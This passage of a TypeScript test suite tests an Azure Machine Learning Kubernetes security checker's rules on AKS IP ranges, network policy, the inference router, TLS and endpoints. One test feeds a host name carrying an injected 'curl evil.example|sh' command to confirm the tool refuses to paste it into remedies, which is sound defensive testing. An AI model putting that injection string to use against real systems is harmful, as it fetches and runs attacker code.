    [['10.0.0.0/7'], '10.0.0.0/7 (wider than /8)'],
    [['2001:db8::/12'], '2001:db8::/12 (wider than /16)'],
    [['banana'], 'banana (not an IP address or CIDR range)']
  ])('fails %j as no restriction', (ranges, why) => {
    const r = withRanges(ranges)
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('authorized IP ranges do not restrict it')
    expect(r.detail).toContain(why)
    expect(r.remedy?.commands).toEqual([
      'az aks update --resource-group aks-rg --name aks-inference --api-server-authorized-ip-ranges <your-cidrs>'
    ])
  })

  it.each([
    [['10.0.0.0/8']],
    [['203.0.113.7']],
    [['0.0.0.0/32']],
    [['2001:db8::/16', '198.51.100.0/24']]
  ])('passes %j as a restriction', ranges => {
    const r = withRanges(ranges)
    expect(r.outcome).toBe('pass')
    expect(r.detail).toContain(`limited to ${ranges.length} authorized IP range(s)`)
  })

  it('does not judge the ranges of a private cluster', () => {
    const r = only(
      K8S_01.evaluate(
        withCluster({ enablePrivateCluster: true, authorizedIpRanges: ['0.0.0.0/0'] })
      )
    )
    expect(r.outcome).toBe('pass')
  })

  it('lists only the open ranges, not the ones that restrict', () => {
    const open = unrestrictiveRanges(['10.1.0.0/16', '0.0.0.0/0', ' 192.0.2.0/24 '])
    expect(open.map(plainText)).toEqual(['0.0.0.0/0 (a default route: every IPv4 address)'])
    // The range is Azure's value, shown as code; the reason is ours.
    expect(open[0]).toEqual([{ code: '0.0.0.0/0' }, ' (a default route: every IPv4 address)'])
  })
})

describe('K8S-01 against PSRule for Azure AKS fixtures', () => {
  // PSRule exports resources with PowerShell casing (Properties, Name); normalise them as ARM would return them.
  const psrule = readReference('peers/psrule-rules-azure.json') as {
    datasets: Array<{ resources: Array<Record<string, unknown>> }>
  }
  const clusters = psrule.datasets
    .flatMap(d => d.resources)
    .filter(
      r =>
        String(r['Type'] ?? r['type']).toLowerCase() ===
        'microsoft.containerservice/managedclusters'
    )
    .map(toManagedCluster)
  const named = (name: string) => {
    const found = clusters.find(c => c.name === name)
    if (!found) throw new Error(`PSRule cluster ${name} not found`)
    return found
  }

  it.each(['cluster-A', 'cluster-B', 'cluster-G', 'cluster-H', 'cluster-I', 'cluster-J'])(
    '%s has no network policy: we fail it, as Azure.AKS.NetworkPolicy does',
    name => {
      expect(
        clusterProblems(named(name)).some(p => plainText(p.text).includes('no network policy'))
      ).toBe(true)
    }
  )

  it.each(['cluster-C', 'cluster-D', 'cluster-F', 'cluster-K', 'cluster-L'])(
    '%s has a network policy: we agree with Azure.AKS.NetworkPolicy',
    name => {
      expect(
        clusterProblems(named(name)).some(p => plainText(p.text).includes('no network policy'))
      ).toBe(false)
    }
  )

  it('cluster-F (authorized IP ranges 0.0.0.0/32, the "node egress IP only" setting) passes the API server test, as Azure.AKS.AuthorizedIPs', () => {
    expect(
      clusterProblems(named('cluster-F')).some(p => plainText(p.text).includes('API server'))
    ).toBe(false)
  })

  it('cluster-L is private: PSRule skips Azure.AKS.AuthorizedIPs (none), we pass the API server test', () => {
    expect(
      clusterProblems(named('cluster-L')).some(p => plainText(p.text).includes('API server'))
    ).toBe(false)
  })

  it.each(['cluster-A', 'cluster-C', 'cluster-D', 'cluster-K'])(
    '%s has a public API server without ranges: we fail it, as Azure.AKS.AuthorizedIPs and Azure Policy 0e246bcf do',
    name => {
      expect(
        clusterProblems(named(name)).some(p => plainText(p.text).includes('API server is public'))
      ).toBe(true)
    }
  )

  it('only cluster-F and cluster-L pass K8S-01 as a whole (subnet, API server, node IPs, network policy)', () => {
    const passing = clusters.filter(c => clusterProblems(c).length === 0).map(c => c.name)
    expect(passing.sort()).toEqual(['cluster-F', 'cluster-L'])
  })
})

describe('K8S-02 the Azure Machine Learning extension is deployed', () => {
  it('passes with enableInference in any casing', () => {
    const r = only(K8S_02.evaluate(withExtension({ enableInference: 'true' })))
    expect(r.outcome).toBe('pass')
  })

  it('fails without the extension, naming what is there and the create command', () => {
    const s = kubernetesSnapshot({
      clusterExtensions: keyed([
        [clusterId(), ok([azureMlExtension({}, { name: 'flux', extensionType: 'microsoft.flux' })])]
      ])
    })
    const r = only(K8S_02.evaluate(s))
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('has no Azure Machine Learning extension (it has microsoft.flux)')
    expect(r.remedy?.commands).toEqual([
      'az k8s-extension create --name azureml --extension-type Microsoft.AzureML.Kubernetes --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --scope cluster --config enableInference=True inferenceRouterServiceType=LoadBalancer internalLoadBalancerProvider=azure allowInsecureConnections=False sslCname=<scoring-host-name> --config-protected sslCertPemFile=<cert.pem> sslKeyPemFile=<key.pem>'
    ])
    // The host name and certificate files are the user's: the placeholders say what they are.
    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
      '`<scoring-host-name>` is the host name clients score on'
    )
  })

  it('matches the extension type case-insensitively', () => {
    const r = only(
      K8S_02.evaluate(withExtension({}, { extensionType: 'Microsoft.AzureML.Kubernetes' }))
    )
    expect(r.outcome).toBe('pass')
  })

  it.each([
    [
      'a failed extension',
      {},
      { provisioningState: 'Failed' },
      'provisioning state is Failed',
      'az k8s-extension show --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --query "{state: provisioningState, statuses: statuses}"'
    ],
    [
      'inference off',
      { enableInference: 'False' },
      {},
      '`enableInference` is False',
      'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config enableInference=True'
    ]
  ])('fails %s', (_label, settings, overrides, words, command) => {
    const r = only(K8S_02.evaluate(withExtension(settings, overrides)))
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain(words)
    expect(r.remedy?.commands).toEqual([command])
  })

  it('fails when enableInference is not set at all', () => {
    const ext = azureMlExtension()
    delete ext.configurationSettings['enableInference']
    const r = only(
      K8S_02.evaluate(kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), ok([ext])]]) }))
    )
    expect(r.detail).toContain('`enableInference` is not set')
  })

  it('is unknown when the extensions could not be read', () => {
    const r = only(
      K8S_02.evaluate(
        kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), failed(403)]]) })
      )
    )
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('extensions of cluster aks-inference')
    expect(r.cause?.fix?.commands).toEqual([
      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/aks-rg`
    ])
    // K8S-03 reads the same list: one cause for both.
    const k8s03 = only(
      K8S_03.evaluate(
        kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), failed(403)]]) })
      )
    )
    expect(k8s03).toMatchObject({ outcome: 'unknown', cause: { key: r.cause?.key } })
  })

  it('skips a cluster attached only as a legacy AKS compute', () => {
    const r = only(K8S_02.evaluate(kubernetesSnapshot({ computes: ok([legacyAksCompute()]) })))
    expect(r.outcome).toBe('skipped')
    expect(r.detail).toContain('legacy AKS compute')
  })
})

describe('K8S-03 the inference router is not public', () => {
  it.each([
    ['an internal load balancer', {}, 'pass', undefined, 'internal Azure load balancer'],
    [
      'NodePort (with a note)',
      { inferenceRouterServiceType: 'NodePort' },
      'pass',
      undefined,
      'NodePort'
    ],
    [
      'ClusterIP (with a note)',
      { inferenceRouterServiceType: 'clusterIP' },
      'pass',
      undefined,
      'ClusterIP'
    ],
    [
      'a public load balancer',
      { internalLoadBalancerProvider: '' },
      'fail',
      'error',
      'public IP address'
    ],
    [
      'a load balancer without a provider, any casing',
      { inferenceRouterServiceType: 'loadbalancer', internalLoadBalancerProvider: 'AZURE' },
      'pass',
      undefined,
      'internal'
    ],
    ['plain HTTP', { allowInsecureConnections: 'TRUE' }, 'fail', 'warning', 'plain HTTP'],
    [
      'an unknown service type',
      { inferenceRouterServiceType: 'Ingress' },
      'fail',
      'error',
      '`inferenceRouterServiceType` Ingress, which is not'
    ]
  ])('%s → %s', (_label, settings, outcome, severity, text) => {
    const r = only(K8S_03.evaluate(withExtension(settings)))
    expect(r.outcome).toBe(outcome)
    expect(r.severity).toBe(severity)
    expect(r.detail).toContain(text)
  })

  it('fails a public load balancer as an error even when plain HTTP is also allowed', () => {
    const r = only(
      K8S_03.evaluate(
        withExtension({ internalLoadBalancerProvider: 'none', allowInsecureConnections: 'true' })
      )
    )
    expect(r.severity).toBe('error')
    expect(r.detail).toContain('also `allowInsecureConnections` is True')
    // One update sets both the internal load balancer and HTTPS only.
    expect(r.remedy?.commands).toEqual([
      'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config inferenceRouterServiceType=LoadBalancer internalLoadBalancerProvider=azure allowInsecureConnections=False sslCname=scoring.contoso.internal --config-protected sslCertPemFile=<cert.pem> sslKeyPemFile=<key.pem>'
    ])
    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
      'the certificate for scoring.contoso.internal and its private key'
    )
  })

  // how-to-deploy-kubernetes-extension, configuration settings table: internalLoadBalancerProvider
  // is only applicable to AKS clusters; LoadBalancer exposes azureml-fe through the cluster's
  // load balancer. So on Arc the setting proves nothing, and ARM does not report the address.
  it.each([
    ['with internalLoadBalancerProvider=azure', {}],
    ['without internalLoadBalancerProvider', { internalLoadBalancerProvider: undefined }]
  ])(
    'is unknown for a LoadBalancer router on an Arc cluster %s, saying how to confirm',
    (_l, o) => {
      const settings = { ...o } as Record<string, string>
      const ext = azureMlExtension({}, {}, arcClusterId())
      for (const [k, v] of Object.entries(settings)) {
        if (v === undefined) delete ext.configurationSettings[k]
      }
      const s = kubernetesSnapshot({
        computes: ok([kubernetesCompute('k8s-inference', arcClusterId())]),
        managedClusters: {},
        clusterExtensions: keyed([[arcClusterId(), ok([ext])]])
      })
      const r = only(K8S_03.evaluate(s))
      expect(r.outcome).toBe('unknown')
      expect(r.detail).toContain('applies to AKS clusters only')
      expect(r.remedy?.commands).toEqual([
        'kubectl get service azureml-fe --namespace azureml',
        'az k8s-extension update --name azureml --cluster-type connectedClusters --cluster-name arc-onprem --resource-group aks-rg --config inferenceRouterServiceType=NodePort'
      ])
    }
  )

  it('still passes NodePort on an Arc cluster', () => {
    const s = kubernetesSnapshot({
      computes: ok([kubernetesCompute('k8s-inference', arcClusterId())]),
      managedClusters: {},
      clusterExtensions: keyed([
        [
          arcClusterId(),
          ok([azureMlExtension({ inferenceRouterServiceType: 'NodePort' }, {}, arcClusterId())])
        ]
      ])
    })
    expect(only(K8S_03.evaluate(s)).outcome).toBe('pass')
  })

  // how-to-deploy-kubernetes-extension, configuration settings: with allowInsecureConnections
  // False (the default), sslCname is required, and the certificate comes from sslSecret or the
  // protected settings sslCertPemFile and sslKeyPemFile (write-only: only their names can be seen).
  describe('HTTPS on the router', () => {
    const tls = (
      settings: Record<string, string | undefined>,
      /** null: the body has no configurationProtectedSettings. */
      protectedKeys: string[] | null = ['sslCertPemFile', 'sslKeyPemFile']
    ): CheckResult => {
      const ext = azureMlExtension()
      for (const [k, v] of Object.entries(settings)) {
        if (v === undefined) delete ext.configurationSettings[k]
        else ext.configurationSettings[k] = v
      }
      if (protectedKeys === null) delete ext.configurationProtectedSettingKeys
      else ext.configurationProtectedSettingKeys = protectedKeys
      return only(
        K8S_03.evaluate(
          kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), ok([ext])]]) })
        )
      )
    }

    it('passes with sslCname and the protected certificate settings, naming them', () => {
      const r = tls({})
      expect(r.outcome).toBe('pass')
      expect(r.detail).toContain('`sslCname` scoring.contoso.internal')
      expect(r.detail).toContain('a certificate in its protected settings')
      expect(r.remedy).toBeUndefined()
    })

    it('passes with sslSecret, and with the names the CLI stores (scoringFe.sslCert/sslKey)', () => {
      const secret = tls({ sslSecret: 'azureml-fe-tls' }, [])
      expect(secret.outcome).toBe('pass')
      expect(secret.detail).toContain('certificate from `sslSecret` azureml-fe-tls')
      expect(tls({}, ['scoringFe.sslCert', 'scoringFe.sslKey']).outcome).toBe('pass')
    })

    it('fails as a warning without sslCname, also when allowInsecureConnections is unset', () => {
      for (const insecure of ['False', undefined]) {
        const r = tls({ sslCname: undefined, allowInsecureConnections: insecure })
        expect([r.outcome, r.severity]).toEqual(['fail', 'warning'])
        expect(r.detail).toContain('but `sslCname` is not set')
        expect(r.remedy?.commands).toEqual([
          'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config allowInsecureConnections=False sslCname=<scoring-host-name> --config-protected sslCertPemFile=<cert.pem> sslKeyPemFile=<key.pem>'
        ])
      }
    })

    it('fails as a warning when the protected settings are listed without a certificate', () => {
      const r = tls({}, ['someOtherSecret'])
      expect([r.outcome, r.severity]).toEqual(['fail', 'warning'])
      expect(r.detail).toContain('no certificate is set')
      expect(tls({}, ['sslCertPemFile']).outcome).toBe('fail')
    })

    it('is unknown when Azure does not list the protected settings and no sslSecret is set', () => {
      const r = tls({}, null)
      expect(r.outcome).toBe('unknown')
      expect(r.detail).toContain('could not be confirmed')
      expect(r.detail).toContain('sslSecret')
      expect(r.remedy?.commands).toEqual([
        'openssl s_client -connect scoring.contoso.internal:443 -servername scoring.contoso.internal -brief </dev/null'
      ])
    })

    it('never pastes a host name Azure reports into a command unless it is a host name', () => {
      const r = tls({ sslCname: 'x.example;curl evil.example|sh' }, null)
      expect(r.outcome).toBe('unknown')
      expect(r.remedy?.commands.join('\n')).not.toContain('curl')
      expect(r.remedy?.commands).toEqual([
        'openssl s_client -connect <scoring-host-name>:443 -servername <scoring-host-name> -brief </dev/null'
      ])
    })

    it('a public router stays an error whatever the TLS settings', () => {
      const r = tls({ internalLoadBalancerProvider: undefined, sslCname: undefined })
      expect([r.outcome, r.severity]).toEqual(['fail', 'error'])
      expect(r.detail).toContain('public IP address')
      expect(r.detail).toContain('also the router serves HTTPS only')
    })

    it('keeps only the names of protected settings, never their values', () => {
      const ext = toClusterExtension({
        id: 'x',
        properties: {
          configurationSettings: { sslCname: 'a.b' },
          configurationProtectedSettings: { sslCertPemFile: 'c2VjcmV0', sslKeyPemFile: 'a2V5' }
        }
      })
      expect(ext.configurationProtectedSettingKeys).toEqual(['sslCertPemFile', 'sslKeyPemFile'])
      expect(JSON.stringify(ext)).not.toContain('c2VjcmV0')
      expect(
        toClusterExtension({ properties: {} }).configurationProtectedSettingKeys
      ).toBeUndefined()
    })
  })

  it('is unknown when the router type is not set, and skipped without the extension', () => {
    const ext = azureMlExtension()
    delete ext.configurationSettings['inferenceRouterServiceType']
    const unset = only(
      K8S_03.evaluate(kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), ok([ext])]]) }))
    )
    expect(unset.outcome).toBe('unknown')
    const none = only(
      K8S_03.evaluate(kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), ok([])]]) }))
    )
    expect(none.outcome).toBe('skipped')
    expect(none.detail).toContain('K8S-02')
  })
})

describe('K8S-04 the cluster is attached', () => {
  it('fails with the attach command when the Kubernetes route is requested and nothing is attached', () => {
    const s = secureSnapshot({ request: { route: 'kubernetes', deploymentMethod: 'cli' } })
    const r = only(K8S_04.evaluate(s))
    expect(r.outcome).toBe('fail')
    expect(r.remedy?.commands).toEqual([
      'az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name <compute-name> --resource-id <cluster-id> --identity-type SystemAssigned --namespace azureml'
    ])
    // Nothing is attached, so the cluster and the compute's name are the user's to choose.
    const notes = plainText(r.remedy?.placeholders ?? ([] as never))
    expect(notes).toContain('`<cluster-id>` is the resource id of the secured AKS')
    expect(notes).toContain('`<compute-name>` is the name the workspace gives the cluster')
  })

  it('fails a compute that did not provision', () => {
    const s = kubernetesSnapshot({
      computes: ok([
        kubernetesCompute('k8s-inference', clusterId(), { provisioningState: 'Failed' })
      ])
    })
    const r = only(K8S_04.evaluate(s))
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('provisioning state Failed')
    expect(r.remedy?.commands).toEqual([
      'az ml compute detach --name k8s-inference --resource-group workspace-1234 --workspace-name testworkspace',
      `az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name k8s-inference --resource-id ${clusterId()} --identity-type SystemAssigned --namespace azureml`
    ])
  })

  // One result per compute (issue 18): a legacy compute behind an internal load balancer is not
  // public, but how-to-attach-kubernetes-to-workspace makes the Kubernetes compute the way to
  // serve, so the single result is a notice carrying both reasons, never a pass beside a fail.
  it('gives a private legacy AKS compute one notice with both reasons', () => {
    const r = only(K8S_04.evaluate(kubernetesSnapshot({ computes: ok([legacyAksCompute()]) })))
    expect([r.outcome, r.severity]).toEqual(['fail', 'notice'])
    expect(r.detail).toContain('internal load balancer, so it is not public')
    expect(r.detail).toContain('is a legacy AKS compute')
    // The move: the extension on the same cluster, then a Kubernetes compute with a free name.
    expect(r.remedy?.commands).toEqual([
      expect.stringMatching(
        /^az k8s-extension create --name azureml .* --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg /
      ),
      `az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name aks-v1-k8s --resource-id ${clusterId()} --identity-type SystemAssigned --namespace azureml`
    ])
    expect(r.detail).toContain('then detach aks-v1.')
  })

  it.each([['PublicIp'], [null]])(
    'fails a legacy AKS compute with load balancer %s once, as an error',
    lb => {
      const r = only(
        K8S_04.evaluate(kubernetesSnapshot({ computes: ok([legacyAksCompute('aks-v1', lb)]) }))
      )
      expect([r.outcome, r.severity]).toEqual(['fail', 'error'])
      expect(r.detail).toContain('reachable from the internet')
      expect(r.detail).toContain('is a legacy AKS compute')
    }
  )
})

describe('K8S-05 Kubernetes endpoints target a secured, attached cluster', () => {
  it('is skipped when there are no Kubernetes endpoints yet', () => {
    const s = kubernetesSnapshot({ onlineEndpoints: ok([]) })
    const r = only(K8S_05.evaluate(s))
    expect(r.outcome).toBe('skipped')
    expect(r.detail).toContain('no Kubernetes online endpoints yet')
  })

  it('fails an endpoint whose compute is not attached', () => {
    const s = kubernetesSnapshot({
      onlineEndpoints: ok([kubernetesEndpoint('ep', computeId('gone'))])
    })
    const r = only(K8S_05.evaluate(s))
    expect(r.outcome).toBe('fail')
    expect(r.detail).toContain('compute gone, which is not attached')
    // Recreated on the workspace's secured Kubernetes compute; its deployments go with it.
    const args = '--resource-group workspace-1234 --workspace-name testworkspace --name ep'
    expect(r.remedy?.commands).toEqual([
      `az ml online-endpoint delete ${args}`,
      `az ml online-endpoint create ${args} --file endpoint.yml --set compute=azureml:k8s-inference`
    ])
    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
      "`endpoint.yml` is the endpoint's YAML"
    )
  })

  it('finds the compute by name as well as by id', () => {
    const s = kubernetesSnapshot({
      onlineEndpoints: ok([kubernetesEndpoint('ep', 'K8S-INFERENCE')])
    })
    expect(only(K8S_05.evaluate(s)).outcome).toBe('pass')
  })

  // how-to-secure-kubernetes-online-endpoint / how-to-secure-kubernetes-inferencing-environment:
  // the endpoint is only as isolated as the cluster it runs on, so it passes only when the
  // cluster passes K8S-01, K8S-02 and K8S-03, and fails at the worst of their severities.
  it('fails when the cluster fails K8S-01 and K8S-03, naming them, as an error', () => {
    const s = kubernetesSnapshot({
      managedClusters: keyed([[clusterId(), ok(managedCluster({ networkPolicy: undefined }))]]),
      clusterExtensions: keyed([
        [clusterId(), ok([azureMlExtension({ internalLoadBalancerProvider: '' })])]
      ])
    })
    const r = only(K8S_05.evaluate(s))
    expect(r.outcome).toBe('fail')
    expect(r.severity).toBe('error')
    expect(r.detail).toContain('fails K8S-01 (error), K8S-03 (error)')
    // The cluster's fixes are the endpoint's: K8S-01's network policy, K8S-03's load balancer.
    expect(r.remedy?.commands).toEqual([
      'az aks update --resource-group aks-rg --name aks-inference --network-policy azure',
      'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config inferenceRouterServiceType=LoadBalancer internalLoadBalancerProvider=azure'
    ])
  })

  it('fails as a warning, not a pass, when only K8S-03 warns (plain HTTP)', () => {
    const r = only(K8S_05.evaluate(withExtension({ allowInsecureConnections: 'True' })))
    expect(r.outcome).toBe('fail')
    expect(r.severity).toBe('warning')
    expect(r.detail).toContain('fails K8S-03 (warning)')
    expect(r.detail).not.toContain('passes')
  })

  it('takes the worst severity when a warning and an error meet', () => {
    const s = kubernetesSnapshot({
      managedClusters: keyed([[clusterId(), ok(managedCluster({ networkPolicy: 'none' }))]]),
      clusterExtensions: keyed([
        [clusterId(), ok([azureMlExtension({ allowInsecureConnections: 'true' })])]
      ])
    })
    const r = only(K8S_05.evaluate(s))
    expect(r.severity).toBe('error')
    expect(r.detail).toContain('K8S-01 (error), K8S-03 (warning)')
  })

  it('passes only when all three pass, and says so', () => {
    const r = only(K8S_05.evaluate(kubernetesSnapshot()))
    expect(r.outcome).toBe('pass')
    expect(r.detail).toContain('passes K8S-01, K8S-02 and K8S-03')
  })

  it('is unknown on an Arc cluster, whose K8S-01 cannot be confirmed', () => {
    const arc = kubernetesCompute('k8s-inference', arcClusterId())
    const s = kubernetesSnapshot({
      computes: ok([arc]),
      managedClusters: {},
      clusterExtensions: keyed([[arcClusterId(), ok([azureMlExtension({}, {}, arcClusterId())])]])
    })
    const r = only(K8S_05.evaluate(s))
    expect(r.outcome).toBe('unknown')
    expect(r.detail).toContain('K8S-01, K8S-03 could not be confirmed')
    expect(r.remedy?.commands).toContain('kubectl get service azureml-fe --namespace azureml')
  })

  it("is unknown with the cluster read's cause when the cluster cannot be read", () => {
    const r = only(
      K8S_05.evaluate(kubernetesSnapshot({ managedClusters: keyed([[clusterId(), failed(403)]]) }))
    )
    expect(r.outcome).toBe('unknown')
    expect(r.cause?.key).toBe(`reader:/subscriptions/${SUBSCRIPTION}/resourcegroups/aks-rg`)
    expect(r.detail).toContain('Reader role on resource group aks-rg')
  })
})

describe('K8S checks that need the AKS body when it is missing', () => {
  // K8S-01 fails a deleted cluster with the detach command; the checks that only read its body
  // say unknown and point there, so one stale compute is not reported as three failures.
  it('are unknown for a cluster that no longer exists, pointing to K8S-01', () => {
    const s = kubernetesSnapshot({ managedClusters: keyed([[clusterId(), failed(404)]]) })
    for (const check of [K8S_06, K8S_07, K8S_09]) {
      const r = only(check.evaluate(s))
      expect(r).toMatchObject({ checkId: check.id, outcome: 'unknown' })
      expect(r.detail).toBe(
        'AKS cluster aks-inference no longer exists, so there is nothing to check (K8S-01 fails it). Detach the stale compute, then attach a secured cluster (K8S-04).'
      )
      // The same cause as K8S-01's fail: the report names it once, with the detach command.
      expect(r.cause?.key).toBe(`gone:${clusterId().toLowerCase()}`)
      expect(r.cause?.fix?.commands).toEqual([
        'az ml compute detach --name k8s-inference --resource-group workspace-1234 --workspace-name testworkspace'
      ])
      expect(r.resource.type).toBe('Microsoft.ContainerService/managedClusters')
    }
  })

  it('are unknown, as a bug to report, when collection did not read the cluster', () => {
    const s = kubernetesSnapshot({ managedClusters: {} })
    for (const check of [K8S_01, K8S_06, K8S_07, K8S_09]) {
      const r = only(check.evaluate(s))
      expect(r).toMatchObject({ checkId: check.id, outcome: 'unknown' })
      expect(r.detail).toBe(
        'AKS cluster aks-inference was not read (a bug in aml-inference-guard: please report it with the JSON report attached).'
      )
    }
  })
})

describe('K8S words', () => {
  it("each K8S check's summary is its row of the README check table", () => {
    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8')
    for (const check of KUBERNETES_CHECKS) {
      const row = readme
        .split('\n')
        .find(line => line.startsWith(`| [${check.id}](docs/checks.md#${check.id.toLowerCase()})`))
      expect(row?.split('|')[4]?.trim()).toBe(check.summary)
    }
  })
})
